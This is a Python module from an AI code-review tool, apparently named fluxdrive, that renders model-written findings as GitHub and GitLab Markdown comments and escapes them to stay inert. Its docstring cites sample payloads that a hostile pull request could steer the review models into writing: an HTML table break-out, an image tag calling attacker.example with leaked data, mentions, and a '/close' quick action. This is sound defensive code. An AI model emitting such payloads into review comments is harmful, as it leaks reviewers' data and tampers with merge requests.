"""The Markdown fluxdrive posts: inline comment bodies, the review body, the summary comment.

Each body carries a hidden marker so a later run recognizes what it posted:
``<!-- fluxdrive:finding:<fingerprint> -->`` on an inline comment,
``<!-- fluxdrive:summary -->`` on the summary comment.

Every text that came from a model or a reviewed file (titles, explanations,
fixes, agent outcomes, paths) goes through :func:`text`, :func:`cell` or
:func:`code` and nothing else, so on GitHub and GitLab it renders as inert
text. Why: a pull request from a stranger chooses what the models read and
so what they write; without this a finding titled
``</details></td></tr></table><h1>INJECTED</h1>`` restructures the comment,
``![pixel](https://attacker.example/p.png?d=leak)`` makes every reviewer who
opens the pull request fetch a third party's tracking pixel, ``@name`` and
``#123`` notify strangers, and ``/close`` closes a GitLab merge request.
What :func:`text` does, in order: scrub (credentials masked, terminal
controls dropped), bound, escape HTML (``&``, ``<``, ``>``: no tag, comment,
entity or marker survives), backslash-escape the Markdown that builds links,
images, code spans, tables and fences (`` ` `` ``[`` ``]`` ``|`` ``~``
``\\``), defuse block syntax at a line start (headings, setext underlines,
list and rule markers), and break mentions, ``#123``/``!123`` references and
GitLab quick actions with a zero-width space. A bare ``https://`` URL stays
readable text (at most a link, never an image). Check-run annotations are
plain text on GitHub and use :func:`plain`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import quote

from fluxdrive.core.masking import scrub
from fluxdrive.publish.report import PublishedFinding, RunReport

SUMMARY_MARKER = "<!-- fluxdrive:summary -->"
FINDING_MARKER = "<!-- fluxdrive:finding:{} -->"
RESOLVED_MARKER = "<!-- fluxdrive:resolved:{} -->"
FINDING_MARKER_RE = re.compile(r"<!-- fluxdrive:finding:([0-9a-f]{8,64}) -->")
RESOLVED_MARKER_RE = re.compile(r"<!-- fluxdrive:resolved:([0-9a-f]{8,64}) -->")
MAX_BODY = 60_000  # GitHub refuses comment bodies over 65,536 characters
MAX_ROWS = 100
SEVERITY_LABEL = {"P0": "🔴 P0", "P1": "🟠 P1", "P2": "🟡 P2", "P3": "🔵 P3"}
VERDICT_LABEL = {
    "safe": "✅ safe",
    "needs-changes": "⚠️ needs-changes",
    "risky": "⛔ risky",
    "incomplete": "❌ incomplete",
    "error": "❌ error",
}
_ZWSP = "\u200b"
_HTML = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;"})
_MARKDOWN = re.compile(r"([\\`\[\]|~])")  # link/image brackets, code spans, table cells, fences, the escape itself
_MENTION = re.compile(r"@(?=[A-Za-z0-9])")
_REFERENCE = re.compile(r"([#!])(?=\d)")  # #123 (GitHub/GitLab issue), !123 (GitLab merge request)
_LINE_START = re.compile(r"(?m)^([ \t]*)([#=+*_-])")  # headings, setext underlines, lists, rules
_QUICK_ACTION = re.compile(r"(?m)^([ \t]*)/")
_URL_SAFE = ":/?#@!$&'*+,;=%-._~"  # quote() everything else: no ( ) < > [ ] ` | or space ends the link


def plain(value: str, limit: int = 2000) -> str:
    """Review text for a field GitHub shows as plain text (check-run annotations): scrubbed and bounded."""
    value = scrub(value)
    return value if len(value) <= limit else value[: limit - 1] + "…"


def text(value: str, limit: int = 2000) -> str:
    """Review text made inert for a GitHub/GitLab Markdown body (see the module docstring)."""
    value = plain(value, limit).translate(_HTML)
    value = _MARKDOWN.sub(r"\\\1", value)
    value = _LINE_START.sub(r"\1\\\2", value)
    value = _MENTION.sub("@" + _ZWSP, value)
    value = _REFERENCE.sub(r"\1" + _ZWSP, value)
    return _QUICK_ACTION.sub(r"\1" + _ZWSP + "/", value)


def cell(value: str, limit: int = 300) -> str:
    """:func:`text` for one table cell: one line (pipes are escaped by :func:`text`)."""
    return " ".join(text(" ".join(value.split()), limit).split())


def code(value: str, *, table: bool = False) -> str:
    """An inline code span that nothing in ``value`` can close: the fence is longer than any run of
    backticks in it. Inside a span nothing renders, so only markers (``<!--``) are broken, and in a
    table (``table=True``) pipes escaped, which GFM splits cells on even inside code."""
    value = " ".join(plain(value, 300).split()).replace("<!--", "<!-" + _ZWSP + "-")
    if table:
        value = value.replace("|", "\\|")
    longest = max((len(run) for run in re.findall(r"`+", value)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {value} {fence}" if longest or value.startswith(" ") or value.endswith(" ") else f"`{value}`"


def _severity(severity: str) -> str:
    return SEVERITY_LABEL.get(severity) or text(severity, 20)


def _verdict(verdict: str) -> str:
    return VERDICT_LABEL.get(verdict) or text(verdict, 40)


def counts_line(report: RunReport) -> str:
    """``3 P0 · 1 P1`` (or ``no findings``)."""
    parts = [f"{n} {text(sev, 20)}" for sev, n in sorted(report.counts.items()) if n]
    return " · ".join(parts) if parts else "no findings"


def suggestion_block(lines: Iterable[str], info: str) -> str:
    """A suggested-change block (info string ``suggestion`` on GitHub, ``suggestion:-N+M`` on GitLab) whose
    content replaces the commented lines verbatim; the fence is longer than any backtick run in it, so
    the code cannot close it."""
    body = list(lines)
    longest = max((len(run) for line in body for run in re.findall(r"`+", line)), default=0)
    fence = "`" * max(3, longest + 1)
    return "\n".join([fence + info, *body, fence])


def finding_comment(finding: PublishedFinding, *, extra_places: Iterable[str] = (), suggestion: str = "") -> str:
    """The body of one inline comment (``suggestion``: a :func:`suggestion_block` for the commented lines)."""
    lines = [f"**{_severity(finding.severity)} · {text(finding.title, 500)}**", ""]
    if finding.not_grounded:
        lines += [f"Not grounded: {text(finding.not_grounded)}", ""]
    if finding.not_confirmed:
        lines += [f"Not confirmed: {text(finding.not_confirmed)}", ""]
    if finding.why:
        lines += [text(finding.why), ""]
    if finding.measured:
        lines += [f"Measured {text(finding.measured)}", ""]
    if finding.support:
        lines += [text(finding.support[:1].upper() + finding.support[1:]), ""]
    if finding.fix:
        lines += [f"**Fix:** {text(finding.fix)}", ""]
    if suggestion:
        lines += [suggestion, ""]
    others = list(extra_places)
    if others:
        shown = ", ".join(code(p) for p in others[:10])
        more = f" and {len(others) - 10} more" if len(others) > 10 else ""
        lines += [f"Also at: {shown}{more}", ""]
    meta = [text(finding.id, 40), f"agents: {', '.join(text(a, 80) for a in finding.agents)}"]
    if finding.convergence:
        meta.append(f"convergence {finding.convergence}")
    if finding.rules:
        meta.append(f"rule {code(finding.rules[0])}")
    if finding.cwe:
        meta.append(", ".join(text(c, 40) for c in finding.cwe))
    lines += [f"<sub>fluxdrive · {' · '.join(meta)}</sub>", FINDING_MARKER.format(finding.fingerprint)]
    return "\n".join(lines)


def review_body(report: RunReport, inline: int, sha: str) -> str:
    """The short body of the pull request review."""
    return (
        f"**fluxdrive** · verdict **{_verdict(report.verdict)}** · {counts_line(report)}"
        f" · {inline} new inline comment(s) on {code(sha[:12])}. The summary comment has the full picture."
    )


def _finding_rows(findings: list[PublishedFinding]) -> list[str]:
    rows = ["| Severity | Finding | Location | Agents |", "|---|---|---|---|"]
    for finding in findings[:MAX_ROWS]:
        place = code(str(finding.place), table=True) if finding.place else "—"
        rows.append(
            f"| {_severity(finding.severity)} | {cell(finding.title)} | {place} | {cell(', '.join(finding.agents))} |"
        )
    if len(findings) > MAX_ROWS:
        rows.append(f"| | … and {len(findings) - MAX_ROWS} more (see findings.json) | | |")
    return rows


def summary_comment(
    report: RunReport,
    *,
    sha: str,
    inline: list[PublishedFinding],
    outside: list[PublishedFinding],
    resolved: int = 0,
    summary_url: str | None = None,
    left_out: int = 0,
    line_filter: str = "",
) -> str:
    """The summary comment: verdict, counts, what is inline, the findings outside the diff, the agents
    (``left_out``: findings outside the changed lines that ``--filter line_filter`` does not show)."""
    verdict = _verdict(report.verdict)
    lines = [
        SUMMARY_MARKER,
        f"## fluxdrive review: {verdict}",
        "",
        f"**Verdict:** {verdict} · **Findings:** {counts_line(report)} · **Commit:** {code(sha[:12])}",
    ]
    if not report.complete:
        reasons = "; ".join(text(r, 200) for r in report.incomplete_reasons[:5]) or "an agent did not finish"
        lines.append(f"**Incomplete:** {reasons}")
    lines.append("")
    said = [f"{len(inline)} finding(s) on changed lines are commented inline"]
    if outside:
        said.append(f"{len(outside)} outside the diff are listed below")
    if left_out:
        said.append(f"{left_out} finding(s) outside the changed lines not shown (--filter {text(line_filter, 20)})")
    if resolved:
        said.append(f"{resolved} fixed since the last run (threads resolved)")
    if report.improvements:
        said.append(f"{report.improvements} improvement suggestion(s) are in the full report")
    lines += ["; ".join(said) + ".", ""]
    if outside:
        lines += ["### Findings outside the diff", "", *_finding_rows(outside), ""]
    if report.agents:
        lines += ["<details><summary>Agents</summary>", "", "| Agent | Outcome |", "|---|---|"]
        lines += [
            f"| {cell(a.name, 80)} | {cell(f'{a.status}: {a.reason}' if a.reason else a.status)} |"
            for a in report.agents
        ]
        lines += ["", "</details>", ""]
    if summary_url:
        lines.append(f"[Full report]({quote(plain(summary_url, 500), safe=_URL_SAFE)})")
    lines.append("<sub>Posted by fluxdrive; this comment is updated on every run.</sub>")
    body = "\n".join(lines)
    return body if len(body) <= MAX_BODY else body[: MAX_BODY - 80] + "\n\n… (truncated; see findings.json)"


def check_summary(report: RunReport) -> str:
    """The check run's ``output.summary``: verdict, counts, every finding, the agents."""
    verdict = _verdict(report.verdict)
    lines = [f"**Verdict:** {verdict} · **Findings:** {counts_line(report)}", ""]
    if not report.complete:
        lines += ["**Incomplete:** " + ("; ".join(text(r, 200) for r in report.incomplete_reasons[:5]) or "yes"), ""]
    if report.findings:
        lines += [*_finding_rows(report.findings), ""]
    if report.agents:
        lines += ["| Agent | Outcome |", "|---|---|"]
        lines += [
            f"| {cell(a.name, 80)} | {cell(f'{a.status}: {a.reason}' if a.reason else a.status)} |"
            for a in report.agents
        ]
    body = "\n".join(lines)
    return body if len(body) <= MAX_BODY else body[: MAX_BODY - 40] + "\n\n… (truncated)"
